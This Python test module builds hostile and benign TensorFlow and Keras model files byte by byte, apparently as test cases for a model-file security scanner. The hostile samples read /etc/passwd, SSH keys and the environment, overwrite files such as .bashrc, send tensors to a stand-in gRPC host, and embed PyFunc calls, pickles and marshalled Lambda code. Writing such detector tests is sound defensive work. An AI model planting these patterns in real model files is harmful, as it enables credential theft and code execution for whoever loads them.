"""TensorFlow graphs and Keras metadata, honest and not (B054, B064 to B067), built from bytes."""

import base64
import json
import marshal
from collections.abc import Iterator, Sequence

from tests.samples.protowriter import number, pair, text
from tests.samples.sample import HARM, UNPROVEN, Sample

STRING = 7


def attribute(key: str, value: bytes) -> bytes:
    """An entry of a node's attributes; `value` is a message."""
    return pair(5, key, value)


def words(*values: str | bytes) -> bytes:
    """A list of texts as an attribute's value."""
    return text(1, b"".join(text(2, value) for value in values))


def node(name: str, operator: str, *inputs: str, more: bytes = b"") -> bytes:
    """A node; `more` are its attributes."""
    return text(1, name) + text(2, operator) + b"".join(text(3, one) for one in inputs) + more


def const(name: str, *values: str | bytes) -> bytes:
    """A constant of texts."""
    tensor = number(1, STRING) + b"".join(text(8, value) for value in values)
    return node(name, "Const", more=attribute("dtype", number(6, STRING)) + attribute("value", text(8, tensor)))


def weights(name: str, count: int) -> bytes:
    """A constant of so many floats."""
    tensor = number(1, 1) + text(2, text(2, number(1, count))) + text(4, bytes(4 * count))
    return node(name, "Const", more=attribute("dtype", number(6, 1)) + attribute("value", text(8, tensor)))


def function(name: str, *nodes: bytes, arguments: Sequence[str] = ()) -> bytes:
    """A function of the library."""
    signature = text(1, name) + b"".join(text(2, text(1, one) + number(3, STRING)) for one in arguments)
    return text(1, signature) + b"".join(text(3, one) for one in nodes)


def graph(*nodes: bytes, functions: Sequence[bytes] = ()) -> bytes:
    """A GraphDef."""
    library = text(2, b"".join(text(1, one) for one in functions)) if functions else b""
    return b"".join(text(1, one) for one in nodes) + library + text(4, number(1, 1882))


INFORMATION = text(2, text(1, text(1, "MatMul") + text(2, text(1, "a")))) + text(4, "serve") + text(5, "2.15.0")


def meta(body: bytes, *parts: bytes) -> bytes:
    """A MetaGraph around a graph; `parts` follow it."""
    return text(1, INFORMATION) + text(2, body) + b"".join(parts)


def saved(*metas: bytes) -> bytes:
    """A SavedModel of these MetaGraphs."""
    return number(1, 1) + b"".join(text(2, one) for one in metas)


def asset(filename: str, tensor: str = "asset:0") -> bytes:
    """A file of the folder of assets, with the constant that its path replaces."""
    return text(6, text(1, text(1, tensor)) + text(2, filename))


PLAIN = (node("x", "Placeholder"), weights("w", 4), node("y", "MatMul", "x", "w"), node("z", "Relu", "y"))
SAVER = (
    const("save/prefix", "model"),
    const("save/part", "_temp_0123/part"),
    node("save/join", "StringJoin", "save/prefix", "save/part"),
    node("save/sharded", "ShardedFilename", "save/join", "shard", "shards"),
    node("save/SaveV2", "SaveV2", "save/sharded", "names", "slices", "w"),
    node("save/merge", "MergeV2Checkpoints", "save/sharded", "save/prefix"),
    node("save/RestoreV2", "RestoreV2", "save/prefix", "names", "slices"),
)
DECODING = (
    node("jpeg", "DecodeJpeg", "x"),
    node("assert", "Assert", "x", "x"),
    node("print", "PrintV2", "x", more=attribute("output_stream", text(2, "stderr"))),
)


def with_nodes(*nodes: bytes) -> bytes:
    """An ordinary SavedModel with nodes more."""
    return saved(meta(graph(*PLAIN, *nodes)))


def reading(path: str, operator: str = "ReadFile") -> bytes:
    """A SavedModel that reads a file that it names."""
    return with_nodes(const("path", path), node("read", operator, "path"))


def hidden(*nodes: bytes) -> bytes:
    """A SavedModel whose library alone has these nodes."""
    call = node("call", "StatefulPartitionedCall", "x", more=attribute("f", text(10, text(1, "inner"))))
    return saved(meta(graph(*PLAIN, call, functions=[function("inner", *nodes)])))


PYTHON = node("py", "PyFunc", "x", more=attribute("token", text(2, "pyfunc_0")))
PASSWD = "/etc/passwd"


def layer(config: object, path: str = "root.layer-0") -> bytes:
    """An object of keras_metadata.pb."""
    body = config if isinstance(config, str) else json.dumps(config)
    return text(1, number(2, 1) + text(3, path) + text(4, "_tf_keras_layer") + text(5, body))


def lambda_layer(source: str) -> dict[str, object]:
    """The configuration of a Lambda with the code of `source`; compiled, and never run."""
    code = compile(f"lambda x: {source}", "<lambda>", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__tuple__", "items": [packed, None, None]}
    return {
        "class_name": "Lambda",
        "name": "l",
        "config": {"name": "l", "function": function, "function_type": "lambda"},
    }


DENSE = {
    "class_name": "Dense",
    "name": "d",
    "trainable": True,
    "config": {"name": "d", "units": 2, "activation": "relu"},
}
LAMBDA = lambda_layer(HARM.source)
OBJECTS = text(7, text(1, text(4, text(1, "_tf_keras_layer") + text(3, json.dumps(LAMBDA)))))

# id, class, least severity, file name, bytes, why
ROWS: tuple[tuple[str, str, str, str, bytes, str], ...] = (
    ("read", "B064", "critical", "saved_model.pb", reading(PASSWD), "Reads a file that it names."),
    ("read-home", "B064", "critical", "saved_model.pb", reading("/home/user/.ssh/id_rsa"), "Reads a key."),
    (
        "read-joined",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(
            const("a", "/etc"), const("b", "passwd"), node("c", "StringJoin", "a", "b"), node("r", "ReadFile", "c")
        ),
        "A path in pieces.",
    ),
    (
        "read-computed",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(node("c", "SomethingElse", "x"), node("r", "ReadFile", "c")),
        "A path that is computed.",
    ),
    ("read-no-input", "B064", "critical", "graph.pb", graph(node("r", "ReadFile")), "A lone node in a plain graph."),
    ("match", "B064", "critical", "saved_model.pb", reading("/home/*", "MatchingFiles"), "Lists a folder."),
    (
        "write",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(const("p", "/tmp/x"), const("c", "echo"), node("w", "WriteFile", "p", "c")),
        "Writes a file.",
    ),
    (
        "save",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(const("p", "/home/user/.bashrc"), node("s", "SaveV2", "p", "n", "s", "w")),
        "Saves over a file.",
    ),
    (
        "merge",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(const("p", "../../x"), node("s", "MergeV2Checkpoints", "x", "p")),
        "Merges into a file outside.",
    ),
    (
        "print",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(node("p", "PrintV2", "x", more=attribute("output_stream", text(2, "file:///tmp/x")))),
        "Prints to a file.",
    ),
    (
        "table",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(const("p", PASSWD), node("t", "InitializeTableFromTextFileV2", "table", "p")),
        "Reads lines of a system file.",
    ),
    (
        "lines",
        "B064",
        "critical",
        "saved_model.pb",
        reading("/proc/self/environ", "TextLineDataset"),
        "Reads the environment.",
    ),
    (
        "restore",
        "B064",
        "warning",
        "model.meta",
        meta(graph(const("p", "/data/other"), node("r", "RestoreV2", "p", "n", "s"))),
        "Restores from elsewhere.",
    ),
    (
        "debug",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(node("d", "DebugIdentity", "x", more=attribute("debug_urls", words("grpc://198.51.100.7:1")))),
        "Sends values.",
    ),
    (
        "map",
        "B064",
        "critical",
        "saved_model.pb",
        with_nodes(node("i", "ImmutableConst", more=attribute("memory_region_name", text(2, PASSWD)))),
        "Maps a file.",
    ),
    (
        "library",
        "B065",
        "critical",
        "saved_model.pb",
        hidden(const("p", PASSWD), node("r", "ReadFile", "p:output:0")),
        "In the function library only.",
    ),
    (
        "second-meta",
        "B065",
        "critical",
        "saved_model.pb",
        saved(meta(graph(*PLAIN)), meta(graph(PYTHON))),
        "In the second MetaGraph.",
    ),
    (
        "second-graph",
        "B065",
        "critical",
        "model.meta",
        meta(graph(*PLAIN), text(2, graph(PYTHON))),
        "In a second graph, which readers merge with the first.",
    ),
    (
        "nested",
        "B065",
        "critical",
        "saved_model.pb",
        with_nodes(const("g", graph(*PLAIN, PYTHON)), node("i", "Identity", "g")),
        "A graph inside a constant.",
    ),
    ("dataset", "B065", "critical", "saved_model.pb", with_nodes(node("d", "DatasetFromGraph", "x")), "Runs a graph."),
    (
        "nested-attribute",
        "B065",
        "critical",
        "saved_model.pb",
        with_nodes(
            node(
                "n",
                "Relu",
                "x",
                more=attribute(
                    "f", text(10, text(1, "g") + pair(2, "v", text(8, number(1, 7) + text(8, HARM.pickle()))))
                ),
            )
        ),
        "A pickle in an attribute of a function's name.",
    ),
    ("python", "B066", "critical", "saved_model.pb", with_nodes(PYTHON), "Calls Python."),
    ("python-meta", "B066", "critical", "model.meta", meta(graph(*PLAIN, PYTHON)), "The same in a checkpoint's graph."),
    ("python-graph", "B066", "critical", "frozen.pb", graph(PYTHON), "The same as a plain graph."),
    ("python-eager", "B066", "critical", "saved_model.pb", hidden(node("p", "EagerPyFunc", "x")), "The eager one."),
    (
        "python-last-name",
        "B066",
        "critical",
        "saved_model.pb",
        with_nodes(node("p", "Relu", "x", more=text(2, "PyFunc"))),
        "An operator's name written twice, of which the last counts.",
    ),
    (
        "python-graph-first",
        "B066",
        "critical",
        "saved_model.pb",
        text(2, meta(graph(PYTHON))) + number(1, 1),
        "The version behind the graph.",
    ),
    (
        "python-behind-junk",
        "B066",
        "critical",
        "saved_model.pb",
        text(99, bytes(9000)) + with_nodes(PYTHON),
        "Behind a field that the format does not have.",
    ),
    (
        "custom",
        "B066",
        "warning",
        "saved_model.pb",
        with_nodes(node("c", "RunAnything", "x")),
        "An operator that nobody knows.",
    ),
    ("rpc", "B066", "critical", "saved_model.pb", with_nodes(node("c", "RpcCall", "x")), "Calls another machine."),
    (
        "asset",
        "B067",
        "critical",
        "saved_model.pb",
        saved(meta(graph(*PLAIN), asset("../../../etc/passwd"))),
        "An asset outside.",
    ),
    (
        "asset-absolute",
        "B067",
        "critical",
        "saved_model.pb",
        saved(meta(graph(*PLAIN), asset(PASSWD))),
        "An absolute asset.",
    ),
    (
        "const-pickle",
        "B067",
        "critical",
        "saved_model.pb",
        with_nodes(const("p", HARM.pickle())),
        "A pickle for a text.",
    ),
    ("lambda", "B054", "critical", "keras_metadata.pb", layer(DENSE) + layer(LAMBDA), "A Lambda with code."),
    (
        "lambda-inside",
        "B055",
        "critical",
        "keras_metadata.pb",
        layer({"class_name": "Sequential", "config": {"layers": [DENSE, LAMBDA]}}),
        "A Lambda in a model's layers.",
    ),
    (
        "lambda-old",
        "B054",
        "critical",
        "saved_model.pb",
        saved(meta(graph(*PLAIN), OBJECTS)),
        "In the SavedModel itself, where TensorFlow 2.4 kept it.",
    ),
)

VOCABULARY = (const("asset", "/home/author/vocab.txt"), node("t", "InitializeTableFromTextFileV2", "table", "asset"))
ORDINARY: dict[str, tuple[str, bytes]] = {
    "saved model": ("saved_model.pb", with_nodes()),
    "graph": ("frozen.pb", graph(*PLAIN)),
    "meta graph": ("model.meta", meta(graph(*PLAIN, *SAVER), text(3, text(1, "save/prefix")))),
    "saving and restoring": ("saved_model.pb", with_nodes(*SAVER)),
    "decoding, asserting, printing": ("saved_model.pb", with_nodes(*DECODING)),
    "vocabulary": ("saved_model.pb", saved(meta(graph(*PLAIN, *VOCABULARY), asset("vocab.txt")))),
    "read asset": (
        "saved_model.pb",
        saved(meta(graph(*PLAIN, const("asset", "/a/b.txt"), node("r", "ReadFile", "asset")), asset("b.txt"))),
    ),
    "own functions": (
        "saved_model.pb",
        saved(meta(graph(*PLAIN, node("c", "inner", "x"), functions=[function("inner", *PLAIN)]))),
    ),
    "data set in memory": ("saved_model.pb", with_nodes(const("e", ""), node("c", "CacheDataset", "x", "e"))),
    "keras metadata": (
        "keras_metadata.pb",
        layer(DENSE) + layer({"class_name": "Sequential", "config": {"layers": [DENSE]}}, "root"),
    ),
}


def hostile() -> Iterator[Sample]:
    """All of this family."""
    for name, bypass, expect, filename, data, why in ROWS:
        reason = f"{why}{UNPROVEN}TensorFlow is too large to be a dependency of the tests."
        yield Sample(f"{bypass}-tf-{name}", bypass, filename, lambda _, data=data: data, reason, expect, "")


def ordinary() -> Iterator[Sample]:
    """Honest graphs."""
    for name, (filename, data) in ORDINARY.items():
        key = f"tf-{name.replace(' ', '-').replace(',', '')}"
        yield Sample(key, "", filename, lambda _, data=data: data, "An ordinary graph.", "none", "")
